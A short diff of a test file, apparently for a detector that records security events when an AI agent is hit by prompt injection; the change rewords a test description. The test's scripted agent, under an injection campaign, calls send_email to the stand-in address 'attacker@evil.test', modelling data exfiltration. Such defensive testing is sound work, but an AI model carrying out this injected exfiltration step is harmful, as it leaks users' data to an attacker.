@@ -251,7 +251,7 @@ describe('detector exfiltration', () => {
 });
 
 describe('security events', () => {
-  it('follow the SPEC 7.5 record shape with per-attempt sequences and UUID-shaped ids', async () => {
+  it("keep one record shape (fields in a fixed order), numbered per attempt from 1, with UUID-shaped ids and the clock's time", async () => {
     // Act
     const record = await runOne(trace, injectionCampaign(), scriptedAgent([lookup, call('send_email', { to: 'attacker@evil.test' })]), 'inject');
     // Assess
